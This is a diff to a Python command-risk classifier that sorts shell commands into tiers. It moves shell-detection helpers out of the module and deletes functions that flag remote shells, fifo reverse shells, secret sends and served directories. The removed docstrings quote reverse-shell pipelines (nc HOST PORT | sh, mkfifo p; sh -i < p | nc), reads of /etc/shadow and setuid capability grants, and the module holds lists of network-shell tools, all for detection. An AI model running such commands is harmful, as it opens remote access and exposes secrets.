@@ -1,16 +1,12 @@
 """The generic argument rules (tiers.md v3.2, "What a command can do, read from its arguments"): what any
 program's arguments name, whatever the program, as the net under the knowledge table. They only raise a tier.
 
-* :func:`argument_facts` reads the arguments: a secret file, a path in a system directory (and whether as the
-  value of an output-like option), a shell or interpreter started, a network destination, a listening
-  address, a directory served, a local file besides a destination (what an upload sends);
-* :func:`decide_unknown` gives a program no handler reads its tiers: a secret MEDIUM (with a destination
-  HIGH), a system path MEDIUM (written through an output option HIGH), a shell MEDIUM or its command's tier
-  (with a destination HIGH: a remote shell), a listener MEDIUM (serving the root, a home or a system
-  directory HIGH), an upload MEDIUM; :func:`decide_handled` adds to a handler's reading what its options say
-  (a secret, an output into a system directory, a shell as an option's value, a listening address);
-* :func:`read_only_secrets`, :func:`fed`, :func:`pipeline_remote_shell`, :func:`served_dir`: read-only programs
-  given a secret, input fed to an unknown program, a shell piped to the network, a server and what it serves.
+:func:`argument_facts` reads the arguments: a secret file, a path in a system directory (and whether as the
+value of an output-like option), a shell or interpreter started, a network destination, a listening address,
+a directory served, a local file besides a destination (what an upload sends). What those facts make of a
+command is :mod:`core.policy.shell.effects.decide`'s; which words name a shell, and remote shells made of
+pipes, :mod:`core.policy.shell.effects.shells`'; addresses in any spelling,
+:mod:`core.policy.shell.effects.addresses`'.
 
 The entry point is :func:`core.policy.shell.effects.knowledge.read_arguments`. A rule for one program belongs
 in the knowledge table (``core/policy/data/programs.toml``); a change here changes what every unknown program
@@ -24,7 +20,6 @@ from functools import lru_cache
 
 from core.policy import _paths as P
 from core.policy import tables as T
-from core.policy.shell.common import show as _show
 from core.policy.shell.effects.addresses import (
     _LOOPBACK,
     LOCAL_TOPS,
@@ -33,10 +28,21 @@ from core.policy.shell.effects.addresses import (
     destination_with_port,
     host_port_pair,
     listening,
+    maybe_destination,
     network_destination,
     numeric_ipv4,
 )
-from core.policy.shell.state import DOWNLOADED_DIR, OTHER, FileInput, TextInput
+from core.policy.shell.effects.shells import (
+    SHELL_AS_DATA,
+    SHELL_NAME_PATTERN,
+    SHELL_NAMES,
+    SHELL_SETTING_VARS,
+    VERSIONED,
+    shell_copies,
+    shell_copy,
+    shell_named,
+    shell_somewhere,
+)
 from core.tiers import Tier
 
 S, L, M, H, C = Tier.SAFE, Tier.LOW, Tier.MEDIUM, Tier.HIGH, Tier.CRITICAL
@@ -47,15 +53,6 @@ MAX_ARGS = 64
 #: words (arguments and the words inside them) one command's generic reading looks at
 MAX_VALUES = 128
 
-#: shells and interpreters whose name in an argument means the program starts them
-SHELL_NAMES = frozenset(T.SHELLS | set(T.INTERPRETERS) | {
-    "guile", "racket", "sbcl", "clisp", "ecl", "csi", "gsi", "chez", "ocaml", "utop", "erl", "iex", "scala",
-    "groovysh", "kotlinc", "bpython", "ptpython", "psysh", "tcl", "jython", "jruby", "rakudo", "raku",
-    "tclsh", "wish", "expect", "python2.7", "python3.8", "python3.9", "python3.10", "python3.11", "python3.12",
-    "python3.13", "perl5", "php-cli", "php7", "php8", "lua5.1", "lua5.2", "lua5.3", "lua5.4", "busybox-sh",
-    "elvish", "xonsh", "ysh", "jshell", "ghci", "irb", "pry",
-    "posh", "oksh", "loksh", "lksh", "pdksh", "osh", "hush", "sash", "scsh", "nushell", "murex",
-})
 #: programs that only name files (a secret path among their operands is not read): read-only metadata tools
 METADATA_READERS = frozenset(T.SECRET_ECHOERS | {
     "md5sum", "md5", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "shasum", "b2sum", "cksum",
@@ -106,41 +103,9 @@ _BINARY_DIRS = ("/usr/bin/", "/bin/", "/usr/local/bin/", "/usr/sbin/", "/sbin/",
 #: options whose value is prose for people (a commit message, a title): not read for shells or paths
 PROSE_OPTIONS = frozenset(("-m", "--message", "--title", "--body", "--subject", "--description", "--comment",
                            "--notes", "--summary", "--reason", "--msg", "-F", "--text"))
-#: words after which a shell's name is data (`kubectl completion bash`, `starship init bash`, `--shell zsh`)
-SHELL_AS_DATA = frozenset(("completion", "completions", "init", "hook", "activate", "shellenv", "shell-init",
-                           "--shell", "-s", "install-completion", "--install-completion", "env", "setup",
-                           "generate-shell-completion", "complete", "gen-completions", "print-shell"))
-#: variables whose value names a shell for others to use later (not started now)
-SHELL_SETTING_VARS = ("SHELL=", "CONFIG_SHELL=", "SHELL:=", "shell=")
 
-_NAMES = "|".join(sorted((re.escape(s) for s in SHELL_NAMES), key=len, reverse=True)) + (
-    r"|(?:python|pypy|perl|ruby|php|lua|tclsh|wish|node)\d+(?:\.\d+)*")  # (python3.14, perl5.36: any version)
-#: a shell or interpreter started inside an argument: at its start or after `!`, `:!`, `|`, `=`, `:`, a quote,
-#: a bracket, `;`, `,` (``EXEC:'bash -li'``, ``!sh``, ``system("/bin/sh")``, ``--pre=sh``); an absolute path to
-#: one anywhere (``spawn /bin/sh``). Not a bare name after a blank: in prose ("fix the bash script") it is data.
-_SHELL_IN = re.compile(r"(?i)(?:(?:^|[!|=:'\"(`;,{\[%])(?:[\w.-]*/)*|(?<=\s)/(?:[\w.-]+/)*)(" + _NAMES +
-                       r")(?=$|[\s'\"),;`&|}\]])|(?<=\s)(" + _NAMES + r")(?=\s+-[cil]+\b)")
-#: capabilities that let a program act as root (``setcap cap_setuid+ep FILE``, ``capsh --caps=…``)
-_PRIVILEGE_CAPS = re.compile(r"(?i)\bcap_(?:setuid|setgid|sys_admin|dac_override|dac_read_search|sys_ptrace|chown|"
-                              r"fowner|sys_module|sys_rawio|setfcap|setpcap)\b")
-_CAP_GRANT = re.compile(r"[=+][a-z]{0,3}e")
-
-
-def grants_privileges(args: list) -> bool:
-    """A capability text among ``args`` that gives a root-like capability effective (``cap_setuid+ep``,
-    ``cap_sys_admin=eip``): each word read on its own, at most 256 characters of it (linear on any input)."""
-    for a in args[:MAX_ARGS]:
-        if "cap_" in a or "CAP_" in a:
-            w = a[:256]
-            if _PRIVILEGE_CAPS.search(w) and _CAP_GRANT.search(w):
-                return True
-    return False
-#: an interpreter's name with a version (python3.14, perl5.36, tclsh8.6)
-_VERSIONED = re.compile(r"(?:python|pypy|perl|ruby|php|lua|tclsh|wish|node)\d+(?:\.\d+)*$")
-#: the name-like tokens of a word (a shell's name is one of them)
-_NAME_TOKENS = re.compile(r"[A-Za-z][A-Za-z0-9.+_-]*")
 #: cheap test: an argument that may carry any of the generic signals
-_HINT = re.compile(r"[/~:=@!|]|^\.|\d\.\d|\.(?:key|p12|pfx|jks|pem)$|^id_|^(?:-[A-Za-z])?(?:" + _NAMES + r")$")
+_HINT = re.compile(r"[/~:=@!|]|^\.|\d\.\d|\.(?:key|p12|pfx|jks|pem)$|^id_|^(?:-[A-Za-z])?(?:" + SHELL_NAME_PATTERN + r")$")
 #: words a secret file's path has (before the path rules are asked: most paths have none)
 _SECRET_WORDS = re.compile(r"shadow|sudoers|environ|secret|private|ssh_host|keytab|opasswd|passwd|letsencrypt|pki|"
                            r"wireguard|ipsec|\.ssh|krb5|\.(?:key|p12|pfx|jks|keystore|ppk|pem)$|(?:^|/)id_")
@@ -150,120 +115,6 @@ _HINT_INNER = re.compile(_HINT.pattern + r"""|[\s'"({\\]|\.[A-Za-z0-9]{2,5}$""")
 _INNER_WORDS = re.compile(r"[^\s'\"(),;\[\]{}<>|&`]+")
 
 
-def _shell_somewhere(word: str) -> tuple[str, str] | None:
-    """A shell whose directory is known only at run time: ``$SHELL``, ``$(which sh)``, ``$(command -v bash)``,
-    ``$BIN/bash`` (expanded as the unknown mark, then ``/NAME``): (its name, the word)."""
-    if " " in word or "/" not in word:
-        return None
-    name = word.rsplit("/", 1)[1]
-    if name in SHELL_NAMES or _VERSIONED.match(name):
-        return f"{name} (its path known at run time)", word
-    return None
-
-
-@lru_cache(maxsize=4096)
-def shell_named(word: str) -> tuple[str, str] | None:
-    """A shell or interpreter started by a word (``/bin/sh``, ``EXEC:'bash -li'``, ``!sh``, ``:!bash``,
-    ``system("/bin/sh")``, ``--on-download-complete=sh``): (its name, the command text from it), or None."""
-    if word.startswith(SHELL_SETTING_VARS):
-        return None
-    for tok in _NAME_TOKENS.findall(word):  # (a cheap test first: most words name no shell)
-        if tok in SHELL_NAMES or tok.lower() in SHELL_NAMES or _VERSIONED.match(tok):
-            break
-    else:
-        return None
-    m = _SHELL_IN.search(word)
-    if m is None:
-        return None
-    g = 1 if m.group(1) is not None else 2
-    name = m.group(g).lower()
-    if m.start(g) == 0 and m.end(g) == len(word) and name not in T.SHELLS:
-        return None  # (`knife node list`: an interpreter's bare name as a word is a noun; a shell's is a start)
-    start = m.start(g)
-    # the path before the name belongs to the command (`/bin/sh -i`)
-    while start > 0 and word[start - 1] not in "!|=: '\"(`;,{[%":
-        start -= 1
-    # the command ends where what opened it closes: a quote, a bracket; after `=`/`:` at a comma (socat's
-    # EXEC:bash -li,pty); at the start of the word it is the whole word
-    opener = word[start - 1] if start > 0 else ""
-    closer = {"'": "'", '"': '"', "(": ")", "{": "}", "[": "]", "`": "`"}.get(opener)
-    if closer is None and opener in ("=", ":"):
-        closer = ","
-    end = word.find(closer, m.end(g)) if closer else -1
-    return name, word[start:end if end >= 0 else len(word)].strip()
-
-
-#: programs that connect a pipe to the network (a shell between two of them, or fed by one, is a remote shell)
-NETWORK_CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "telnet", "openssl", "gnutls-cli", "cryptcat",
-                                "sbd", "pwncat", "rlwrap-nc", "nc.traditional", "nc.openbsd", "websocat", "sslclient",
-                                "tcpclient", "mosquitto_sub", "ssh"))
-
-
-def pipeline_remote_shell(words_per_stage: list, acc) -> None:
-    """A pipeline joining a shell or interpreter to a network connector (``nc HOST PORT | sh | nc HOST PORT``,
-    ``sh -i 2>&1 | nc HOST PORT``, ``openssl s_client … | sh``): a remote shell (HIGH). ``words_per_stage``:
-    each stage's literal words (None for a word not known until run time)."""
-    shell = net = None
-    dest = None
-    for words in words_per_stage:
-        if not words or words[0] is None:
-            continue
-        w = words
-        while w and w[0] in T.WRAPPERS and len(w) > 1:
-            w = w[1:]
-        prog = (w[0] or "").rsplit("/", 1)[-1]
-        if prog in SHELL_NAMES or (prog.startswith("python") and prog[6:].replace(".", "").isdigit()):
-            shell = shell or prog
-        elif prog in NETWORK_CONNECTORS:
-            net = net or prog
-            if dest is None:
-                dest = destination_with_port([x for x in w[1:] if x])
-    if shell and net:
-        acc.add(H, "shell.remote_shell", f"starts a remote shell{' to ' + dest if dest else ''} ({shell} piped to {net})")
-
-
-#: facts in ``Ctx.flags``: named pipes this text made (FIFO + path, and FIFO alone once any), a shell reading its
-#: commands from one (FIFO_SHELL), a program joined to the network in the same text (FIFO_NET, and FIFO_DEST +
-#: its destination)
-FIFO = "fifo:"
-FIFO_SHELL = "fifo\x01shell"
-FIFO_NET = "fifo\x01net"
-FIFO_DEST = "fifo\x01dest:"
-
-
-def fifo_remote_shell(prog: str, args: list, stdin, ctx, acc) -> None:
-    """The fifo reverse shell, however its halves are spelt and ordered (``mkfifo p; sh -i < p 2>&1 | nc HOST
-    PORT > p``, two fifos with the shell in the background or a subshell, any program that connects): a shell
-    or interpreter reads its commands from a named pipe this text made (``mkfifo``, ``mknod NAME p``), and a
-    program in the same text connects to a network destination (or is a network connector): HIGH."""
-    if prog == "mkfifo" or prog == "mknod":
-        pos = [a for k, a in enumerate(args[:32]) if a[:1] != "-" and not (k and args[k - 1] in ("-m", "--mode",
-                                                                                              "-Z", "--context"))]
-        if prog == "mknod":
-            pos = pos[:1] if pos[1:2] == ["p"] else []
-        for a in pos[:16]:
-            if MARK not in a and len(ctx.flags) < 256:
-                ctx.flags.add(FIFO + P.normalize(a, ctx.cwd))
-                ctx.flags.add(FIFO)
-        return
-    if not ctx.flags or FIFO not in ctx.flags:
-        return
-    if prog in SHELL_NAMES or _VERSIONED.match(prog):
-        if type(stdin) is not FileInput or MARK in stdin.path or FIFO + P.normalize(stdin.path, ctx.cwd) not in (
-                ctx.flags) or not (all(a[:1] == "-" for a in args) or "-s" in args):
-            return  # (its commands from its input: no script, no -c; `python3 worker.py < p` reads data)
-        ctx.flags.add(FIFO_SHELL)
-    else:
-        dest = destination_with_port([a for a in args[:MAX_ARGS] if a and _maybe_net(a)] if args else [])
-        if dest is None and prog not in NETWORK_CONNECTORS:
-            return
-        ctx.flags.add(FIFO_NET)
-        if dest is not None:
-            ctx.flags.add(FIFO_DEST + dest)
-    if FIFO_SHELL in ctx.flags and FIFO_NET in ctx.flags:
-        dest = next((x[len(FIFO_DEST):] for x in ctx.flags if x.startswith(FIFO_DEST)), None)
-        acc.add(H, "shell.remote_shell", f"starts a remote shell{' to ' + dest if dest else ''} (a shell reads its "
-                                         f"commands from a named pipe joined to the network)")
 
 
 class Facts:
@@ -358,7 +209,7 @@ def _values(a: str, inner: bool) -> list:
     elif a[:1] == "-" and a[1:2] != "-" and ("/" in a or "~" in a):
         k = min(x for x in (a.find("/"), a.find("~")) if x > 0)
         out.append(a[k:])  # (bundled flags with an attached value: -xf/etc/shadow)
-    elif a[:1] == "-" and a[1:2].isalpha() and (a[2:] in SHELL_NAMES or _VERSIONED.match(a[2:])):
+    elif a[:1] == "-" and a[1:2].isalpha() and (a[2:] in SHELL_NAMES or VERSIONED.match(a[2:])):
         out.append(a[2:])  # (an attached value naming a shell: -esh)
     if a[:1] == "@":
         out.append(a[1:])
@@ -383,11 +234,6 @@ _ADDRESS_TYPES = frozenset((
     "sctp", "sctp-connect", "sctp-listen", "socks", "socks4", "socks4a", "socks5", "proxy", "proxy-connect", "pty",
     "unix", "unix-connect", "unix-listen", "unix-client", "vsock-connect", "vsock-listen", "label", "caption",
     "text", "msl", "ephemeral", "inline", "read", "write", "fd", "stdio", "readline"))
-
-
-def _maybe_net(v: str) -> bool:
-    """Cheap test before :func:`network_destination`: a colon, an at sign or a dotted quad."""
-    return ":" in v or "@" in v or v.count(".") >= 3 or v[:2] == "//"
 
 
 def _maybe_listen(v: str) -> bool:
@@ -434,40 +280,6 @@ def listen_address(args: list) -> str | None:
     return None
 
 
-#: options of read-only programs whose value is a file they read (a list of names, patterns, dates …): any
-#: program's long ones, and the short ones of the programs that have them
-_FILE_LIST_OPTIONS = frozenset(("--file", "--files-from", "--files0-from", "--from-file", "--exclude-from",
-                                "--include-from", "--arg-file"))
-_FILE_LIST_SHORT = {"file": ("-f",), "date": ("-f",), "ss": ("-F",), "dmesg": ("-F",), "xargs": ("-a",),
-                    "grep": ("-f",), "egrep": ("-f",), "fgrep": ("-f",), "tar": ("-T",), "cpio": ("-E",)}
-
-
-def read_only_secrets(r, prog: str, args: list, ctx, acc) -> None:
-    """A read-only program given a secret file: its operands are read (unless it only names files: ``ls``,
-    ``stat``, checksums, which the content readers' own check skips too), and so is an option's file value
-    whatever the program (``file -f /etc/shadow``, ``ss -F``, ``readelf @/etc/shadow``)."""
-    names_only = prog in METADATA_READERS
-    list_opts = _FILE_LIST_OPTIONS | frozenset(_FILE_LIST_SHORT.get(prog, ()))  # (test -f FILE: a question)
-    files = []
-    prev_opt = False
-    for a in args[:MAX_ARGS]:
-        if not a:
-            continue
-        if a[0] == "-":
-            if "=" in a:
-                files.append(a.split("=", 1)[1])
-            elif a[1:2] != "-" and a[2:3] in ("/", "~", "."):
-                files.append(a[2:])
-            prev_opt = a in list_opts
-            continue
-        if prev_opt or (not names_only and prog not in T.CONTENT_READERS):
-            files.append(a[1:] if a[0] == "@" else a)
-        elif a[0] == "@":
-            files.append(a[1:])
-        prev_opt = False
-    if files:
-        r.read_secret_check(prog, files, ctx, acc)
-
 
 #: argument_facts of recent commands: (args, inner, cwd, workspace, user) -> Facts (agents repeat commands)
 _FACTS: dict = {}
@@ -497,47 +309,8 @@ _HANDLED_HINT = re.compile(_DANGER + "|=")
 #: what an argument past the cap is read for (secrets, system paths, listeners, destinations, shells)
 #: (``src/`` is not an rc file: ``gcc src/a.c … src/z.c``, many sources, is not held for them)
 _PAST_CAP = re.compile(_DANGER.replace(r"rc\b", r"(?<![Ss])rc\b") + r"|://|@|\d\.\d+\.\d|[Rr][Ee][Cc][Vv]|\w:\d|"
-                       r"(?:^|[=:!'\"(/,\s])(?:" + _NAMES + r")(?![\w.-])")
+                       r"(?:^|[=:!'\"(/,\s])(?:" + SHELL_NAME_PATTERN + r")(?![\w.-])")
 
-
-#: a fact in ``Ctx.flags``: a copy (or link) of a shell this text made (``cp /bin/sh ./x``), then ``\x01NAME``
-SHELL_COPY = "shellcopy:"
-
-
-def _copies(ctx) -> tuple:
-    """The copies of shells this text made (part of what a command's arguments name)."""
-    return tuple(x for x in ctx.flags if x[:10] == SHELL_COPY) if ctx.flags else ()
-
-
-def note_shell_copy(src: str, dest: str, into_dir: bool, ctx) -> None:
-    """``cp``/``ln``/``install`` of a shell or interpreter (``/bin/sh``, ``$(which bash)``) to ``dest``: the copy
-    is that shell under another name (``into_dir``: ``dest`` is a directory, the copy keeps the name)."""
-    name = src.rstrip("/").rsplit("/", 1)[-1]
-    if not (src[:1] in "/" + MARK and "/" in src and (name in SHELL_NAMES or _VERSIONED.match(name))) or (
-            MARK in dest or len(ctx.flags) > 256):
-        return
-    keys = [P.normalize(dest.rstrip("/") + "/" + name, ctx.cwd)]
-    if not into_dir:
-        keys.append(P.normalize(dest, ctx.cwd))  # (cp /bin/sh x: x, unless x is a directory)
-    for key in keys:
-        ctx.flags.add(SHELL_COPY + key)
-        ctx.flags.add(f"{SHELL_COPY}{key}\x01{name}")
-
-
-def copied_shell(key: str, ctx) -> str | None:
-    """The shell a path (normalized) is a copy of, made earlier in this text, or None."""
-    if not ctx.flags or SHELL_COPY + key not in ctx.flags:
-        return None
-    head = f"{SHELL_COPY}{key}\x01"
-    return next((x[len(head):] for x in ctx.flags if x.startswith(head)), "sh")
-
-
-def shell_copy(v: str, ctx) -> tuple[str, str] | None:
-    """A path this text made a copy (or link) of a shell at (``cp /bin/sh ./x``): (what it is, the path)."""
-    name = copied_shell(P.normalize(v, ctx.cwd), ctx)
-    if name is not None:
-        return f"{v} (a copy of {name})", v
-    return None
 
 
 def argument_facts(r, args: list, ctx, inner: bool = True, prog: str = "") -> Facts:
@@ -546,7 +319,7 @@ def argument_facts(r, args: list, ctx, inner: bool = True, prog: str = "") -> Fa
     if ctx.container is not None:
         return _argument_facts(r, args, ctx, inner, prog)
     key = (tuple(args), inner, ctx.cwd, ctx.ws, ctx.user, prog in _CONFIGURATORS,
-           _copies(ctx) if ctx.flags else ())  # (every argument: same facts)
+           shell_copies(ctx) if ctx.flags else ())  # (every argument: same facts)
     f = _FACTS.get(key)
     if f is None:
         if not inner and not _HANDLED_HINT.search("\x01".join(key[0])) and (
@@ -757,7 +530,7 @@ def _argument_facts(r, args: list, ctx, inner: bool = True, prog: str = "") -> F
                 long_path = long_path or len(v) > 256  # (still long: only its path class is read, and it is)
             if f.shell is None and not long_path and prev not in SHELL_AS_DATA and listed is None and (
                     inner or v is not a or "=" in a or (prev_opt is not None and v[:1] in "/" + MARK)):
-                sh = shell_named(v) if v[:1] != MARK else _shell_somewhere(v)
+                sh = shell_named(v) if v[:1] != MARK else shell_somewhere(v)
                 if sh is not None and (config or choice) and sh[0] not in T.SHELLS:
                     sh = None  # (-DPython3_EXECUTABLE=/usr/bin/python3, --python=…: the interpreter to use later)
                 if sh is not None and opt_name in _LANGUAGE_OPTIONS and "/" not in v:
@@ -799,7 +572,7 @@ def _argument_facts(r, args: list, ctx, inner: bool = True, prog: str = "") -> F
                     f.served = f.served or v
             if long_path:
                 continue
-            if inner and f.net is None and _maybe_net(v):
+            if inner and f.net is None and maybe_destination(v):
                 f.net = network_destination(v)
                 if f.net is not None:
                     net_at = k
@@ -812,147 +585,9 @@ def _argument_facts(r, args: list, ctx, inner: bool = True, prog: str = "") -> F
                 f.sent = v  # (wput build.tgz ftp://…, sometool Makefile URL: a file named in the working directory)
         prev, prev_opt = a, (a if is_opt and "=" not in a else None)
     if not inner and f.secret is not None:
-        f.net = destination_with_port([a for a in args if a and _maybe_net(a)][:MAX_ARGS])
+        f.net = destination_with_port([a for a in args if a and maybe_destination(a)][:MAX_ARGS])
     if dir_opt is not None and f.output is None and f.net is not None and f.net.split("://", 1)[0] in (
             "http", "https", "ftp", "ftps", "sftp", "s3", "gs"):
         f.output = dir_opt
     return f
-
-
-def fetched(srcs: list, dest: str, ctx) -> None:
-    """Files copied from a remote host (``srcs``, the remote sources: ``scp HOST:x.sh .``, ``rsync -a HOST:dir/
-    ./dir``, ``sftp HOST:x.sh``) are downloaded code when run later: the destination, the names the sources keep
-    in it (and what is under them: a directory copied), the destination's contents when a directory's contents
-    were copied into it."""
-    if MARK in dest or len(ctx.downloaded) >= 64:
-        return
-    base = P.normalize(dest, ctx.cwd)
-    ctx.downloaded.add(base)
-    for s in srcs[:8]:
-        name = s.split("://", 1)[-1].split(":", 1)[-1].rstrip("/").rsplit("/", 1)[-1]
-        if name and MARK not in name:
-            ctx.downloaded.add(P.normalize(f"{dest.rstrip('/')}/{name}", ctx.cwd))
-            ctx.downloaded.add(DOWNLOADED_DIR + P.normalize(f"{dest.rstrip('/')}/{name}", ctx.cwd).rstrip("/"))
-    if any(s.endswith("/") for s in srcs) and dest.rstrip("/") not in ("", ".", "..", "~"):
-        ctx.downloaded.add(DOWNLOADED_DIR + base.rstrip("/"))  # (rsync HOST:dir/ ./dir: its contents into ./dir)
-
-
-def decide_unknown(r, prog: str, f: Facts, ctx, acc) -> None:
-    """The generic rules' tiers for a program no handler reads."""
-    if f.secret is not None:
-        if f.net is not None:
-            acc.add(H, "args.secret_send", f"{prog} is given {_show(f.secret)} (secret) and {_show(f.net)}: "
-                                           f"it may send the secret over the network")
-        else:
-            acc.add(M, "args.secret_read", f"{prog} is given {_show(f.secret)} (secret): it may read it")
-    if f.shell is not None:
-        name, text = f.shell
-        if f.net is not None:
-            acc.add(H, "args.remote_shell", f"{prog} joins {name} to {_show(f.net)} (a remote shell)")
-        else:
-            acc.add(M, "args.shell", f"{prog} is given {name} to run: code that cannot be read here")
-        if text and " " in text and MARK not in text:
-            r.run_text(text, ctx.child(), acc)
-    if f.output is not None:
-        opt, path = f.output
-        acc.add(H, "args.system_write", f"{prog} -{'-' if len(opt) > 1 else ''}{opt} writes into {_show(path)} "
-                                        f"(inside a system directory)")
-    elif f.system is not None:
-        acc.add(M, "args.system_path", f"{prog} is given {_show(f.system)} (system directory): it may change it")
-    if f.listen is not None:
-        if f.served is not None:
-            acc.add(H, "args.serve_system", f"{prog} serves {_show(f.served)} to the network")
-        else:
-            acc.add(M, "args.listen", f"{prog} listens on the network ({_show(f.listen)})")
-    elif f.net is not None and f.sent is not None:
-        acc.add(M, "args.upload", f"{prog} is given {_show(f.sent)} and {_show(f.net)}: it may send the file")
-    if f.unread:
-        acc.add(M, "args.too_many", f"{prog} is given more arguments that may matter than are read one by one")
-
-
-def decide_handled(r, prog: str, f: Facts, ctx, acc) -> None:
-    """The generic rules that add to a handler's reading: a secret file among the arguments (a read, sent
-    when a destination is named too, unless the program is a network sender whose handler decides), a
-    system path given to an output-like option, a shell given as an option's value (``--use-askpass=/bin/sh``),
-    a listening address (unless the program is a client)."""
-    if f.secret is not None and prog not in METADATA_READERS:
-        if f.net is not None and prog not in T.NETWORK_SENDERS:
-            acc.add(H, "args.secret_send", f"{prog} is given {_show(f.secret)} (secret) and {_show(f.net)}: "
-                                           f"it may send the secret over the network")
-        else:
-            acc.add(M, "args.secret_read", f"{prog} is given {_show(f.secret)} (secret): it may read it")
-    if f.output is not None:
-        opt, path = f.output
-        acc.add(H, "args.system_write", f"{prog} -{'-' if len(opt) > 1 else ''}{opt} writes into {_show(path)} "
-                                        f"(inside a system directory)")
-    if f.shell is not None:
-        name, text = f.shell
-        acc.add(M, "args.shell", f"{prog} is told to run {name}")
-        if text and " " in text and MARK not in text:
-            r.run_text(text, ctx.child(), acc)
-    if f.listen is not None and prog not in T.NETWORK_SENDERS:
-        acc.add(M, "args.listen", f"{prog} listens on the network ({_show(f.listen)})")
-
-
-#: devices whose content is no one's data (``openssl s_client -connect HOST:443 </dev/null``: nothing is sent)
-_NO_DATA_DEVICES = frozenset(("/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/full"))
-
-
-def fed(r, prog: str, f: Facts | None, stdin, ctx, acc) -> None:
-    """Input fed to a program no handler reads: a file sent with a destination named (an upload; a secret
-    file HIGH), text read for shells, secrets and destinations (it may be the program's commands)."""
-    if stdin is None:
-        return
-    if type(stdin) is FileInput:
-        path = stdin.path
-        secret = r.is_secret_path(path, ctx)
-        if f is not None and f.net is not None and (secret or path not in _NO_DATA_DEVICES):
-            if secret:
-                acc.add(H, "args.secret_send", f"{prog} is fed {_show(path)} (secret) and given {_show(f.net)}: "
-                                               f"it may send the secret over the network")
-            else:
-                acc.add(M, "args.upload", f"{prog} is fed {_show(path)} and given {_show(f.net)}: it may send it")
-        elif secret:
-            acc.add(M, "args.secret_read", f"{prog} is fed {_show(path)} (secret): it reads it")
-    elif stdin is OTHER:
-        if f is not None and f.net is not None and f.listen is None and ("." in f.net or ":" in f.net):
-            # (tar czf - . | sometool https://…: what the command before prints leaves with it; a destination
-            # named as one, not a bare word after -h/-H: cpio -o -H newc names a format)
-            acc.add(M, "args.upload", f"{prog} is fed another command's output and given {_show(f.net)}: it may "
-                                      f"send it")
-    elif type(stdin) is TextInput and stdin.text.strip():
-        text = stdin.text[:8192]
-        facts = argument_facts(r, [text], ctx, inner=True)
-        if facts.shell is not None or facts.secret is not None or facts.listen is not None:
-            decide_unknown(r, f"{prog} (fed text)", facts, ctx, acc)
-
-
-def served_dir(r, what: str, args: list, ctx, acc) -> None:
-    """A server started by ``what`` (``python3 -m http.server``, ``php -S``): MEDIUM (it listens on the
-    network); HIGH when the directory it serves (``--directory DIR``/``-d DIR``, else the working directory)
-    is the root, a home directory or a system directory."""
-    served = None
-    local = False  # bound to this machine only (--bind 127.0.0.1, php -S localhost:8000)
-    for k, a in enumerate(args[:MAX_ARGS]):
-        if a in ("--directory", "-d", "-t", "--docroot", "--root") and k + 1 < len(args):
-            served = args[k + 1]
-        elif a.startswith(("--directory=", "--docroot=", "--root=")):
-            served = a.split("=", 1)[1]
-        elif a in ("--bind", "-b", "--host", "--address", "-S") and k + 1 < len(args):
-            local = args[k + 1].startswith(_LOOPBACK[:4])
-        elif a.startswith(("--bind=", "--host=", "--address=")):
-            local = a.split("=", 1)[1].startswith(_LOOPBACK[:4])
-    if served is None:
-        served = ctx.cwd or "."
-    cls = r.pclass(served, ctx) if MARK not in served else P.UNKNOWN
-    if local:
-        if cls in (P.ROOT, P.HOME, P.SYSROOT, P.SYSTEM):
-            acc.add(M, "args.serve_system", f"{what} serves {_show(served)} ({P.label(cls)}) to this machine")
-        else:
-            acc.add(L, "args.listen.local", f"{what} serves on this machine only")
-    elif cls in (P.ROOT, P.HOME, P.SYSROOT, P.SYSTEM):
-        acc.add(H, "args.serve_system", f"{what} serves {_show(served)} ({P.label(cls)}) to the network")
-    else:
-        acc.add(M, "args.listen", f"{what} listens on the network (a server)")
-
 
